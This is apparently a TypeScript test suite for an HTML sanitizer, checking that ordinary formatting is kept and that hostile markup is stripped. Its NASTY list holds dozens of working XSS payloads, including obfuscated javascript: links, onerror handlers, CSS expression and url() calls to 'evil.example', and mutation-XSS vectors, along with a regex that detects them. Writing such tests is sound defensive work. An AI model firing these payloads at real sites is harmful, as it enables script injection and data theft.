import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './html.ts';

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

describe('formatting from users is kept', () => {
  it.each([
    '<p>안녕하세요 <strong>굵게</strong> &amp; <em>기울임</em></p>',
    '<h2>제목</h2><ul><li>하나</li><li>둘</li></ul>',
    '<table><thead><tr><th colspan="2">품목</th></tr></thead><tbody><tr><td>A</td><td rowspan="2">1</td></tr></tbody></table>',
    '<p style="text-align:center;color:#ff0000;font-size:14px">가운데</p>',
    '<span style="background-color:rgb(255, 240, 0)">형광</span>',
    `<img src="${PIXEL}" alt="도장" />`,
    '<img src="/api/v1/files/4a1f6f3e-7f5e-4f62-9a0d-0a4b7b6b1c2d/download?inline=true" />',
    '<img src="/assets/4a1f6f3e-7f5e-4f62-9a0d-0a4b7b6b1c2d" width="100" />',
    'a &lt; b &amp;&amp; c &gt; d',
  ])('%s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('a link opens elsewhere and tells nothing of us', () => {
    expect(sanitizeHtml('<a href="https://example.com/?a=1&amp;b=2" onclick="x()">x</a>')).toBe(
      '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });
});

const NASTY = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/assets/../../evil">',
  '<img src="/assets//evil.example/a">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img srcset="https://evil.example/a.png 1x" src="">',
  '<img src="/assets/a" style="background:url(https://evil.example/a)">',
  '<p style="background-image:url(https://evil.example/a)">x</p>',
  '<p style="background-color:url(https://evil.example/a)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="width:expression(alert(1));position:fixed;top:0;left:0">x</p>',
  '<p style="font-family:x;}@import url(//evil.example)">x</p>',
  '<p style="color:re\\64;background:\\75rl(//evil.example)">x</p>',
  '<p style="color:red;behavior:url(#default#time2);-moz-binding:url(//evil.example)">x</p>',
  '<style>@import "//evil.example/a.css";</style>',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example/a.swf"></object><embed src="//evil.example/a.swf">',
  '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<div id="forms" name="body" class="v-overlay">x</div>',
  '<video src="//evil.example/a.mp4" onerror=alert(1)></video><audio src="//evil.example/a"></audio>',
  '<body background="//evil.example/a" onload=alert(1)>x</body>',
  '<table background="//evil.example/a"><tr><td background="//evil.example/b">x</td></tr></table>',
  '<p onmouseover="alert(1)" OnFocus=alert(1) autofocus tabindex=1>x</p>',
  '<details ontoggle=alert(1) open>x</details>',
  `${'<div>'.repeat(5_000)}<img src=x onerror=alert(1)>`,
];

const HARM =
  /<(?:script|style|link|base|meta|iframe|object|embed|form|input|button|svg|math|video|audio|body|textarea|xmp|noscript|details)\b|<[^>]*\s(?:on\w+|srcset|background|id|class|name|action|formaction|srcdoc)\s*=|<[^>]*(?:javascript|vbscript|expression|url\(|evil\.example|@import|position)/i;

/** Removes quoted attribute values, because text in them is not markup. */
const markup = (html: string) => html.replace(/title="[^"]*"/g, '');

describe('what could do harm goes', () => {
  it.each(NASTY)('%.80s', (html) => {
    const clean = sanitizeHtml(`<p>앞</p>${html}<p>뒤</p>`);
    expect(markup(clean)).not.toMatch(HARM);
    expect(sanitizeHtml(clean)).toBe(clean);
    expect(clean).toContain('앞');
  });

  it('an image that is none of ours leaves no trace', () => {
    expect(sanitizeHtml('a<img src="https://evil.example/x.png" alt="x">b')).toBe('ab');
  });
});

it('is quick with half a megabyte', () => {
  const long = `<p style="color:red">${'가나다 <b>라</b> '.repeat(25_000)}</p><img src="${PIXEL.slice(0, -1)}${'A'.repeat(200_000)}">`;
  expect(sanitizeHtml(long).length).toBeGreaterThan(400_000);
});
